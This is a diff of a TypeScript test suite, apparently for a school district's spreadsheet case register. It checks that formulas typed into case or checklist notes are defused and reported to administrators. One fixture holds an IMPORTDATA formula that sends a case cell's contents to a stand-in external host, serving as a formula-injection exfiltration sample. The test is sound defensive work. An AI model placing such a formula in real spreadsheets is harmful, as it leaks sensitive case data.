@@ -4,7 +4,10 @@ import { mainRegister } from "../../scripts/play/register-cells";
 import { applied } from "../../scripts/workspace/sheets/requests/batch-update";
 import { sheetsSlice } from "../../scripts/workspace/sheets/store";
 import type { TabId } from "../../src/register/columns";
-import { Day, reportOn } from "../day";
+import { Day } from "../day/day";
+import { reportOn, tick } from "../day/events";
+import { recipients } from "../day/look";
+import { admin, contact, lead } from "../day/people";
 
 const leaks = '=IMPORTDATA("https://a.example/?q="&Cases!H3)';
 const told = (day: Day) => day.out().inbox.filter(({ message }) => message === "formula-found");
@@ -32,28 +35,14 @@ const edited = (tab: TabId, set: object) => ({
 
 test.each<[string, object]>([
   ["notes of a case", edited("cases", { notes: leaks })],
-  [
-    "notes of an act",
-    {
-      edit: {
-        tab: "checklist",
-        case: "26-0001",
-        act: "call-child-and-family-services",
-        set: { notes: leaks },
-      },
-      as: "contact",
-    },
-  ],
+  ["notes of an act", tick("call-child-and-family-services", { notes: leaks }, "contact")],
 ])("in %s", async (_, event) => {
   const day = await Day.begin();
   day.play(alex, event);
   day.play({ advance: "PT65M" });
   expect(formulas(day)).toEqual([]);
   const mails = told(day);
-  expect(mails.flatMap(({ to }) => to).sort()).toEqual([
-    "admin@district.example",
-    "lead@district.example",
-  ]);
+  expect(recipients(mails)).toEqual([admin, lead]);
   for (const { text, html } of mails)
     expect(`${text}${html}`).not.toMatch(/IMPORTDATA\(|a\.example|Alex/);
   const lines = day.out().activity.filter(({ what }) => what === "formula-made-text");
@@ -105,7 +94,7 @@ test("in a tab of a person's own, whose title stands in no mail", async () => {
       },
     ],
     {
-      actor: { address: "contact@district.example", owner: "admin@district.example" },
+      actor: { address: contact, owner: admin },
       assume: {},
       mustTake: () => undefined,
       countWritten: () => undefined,
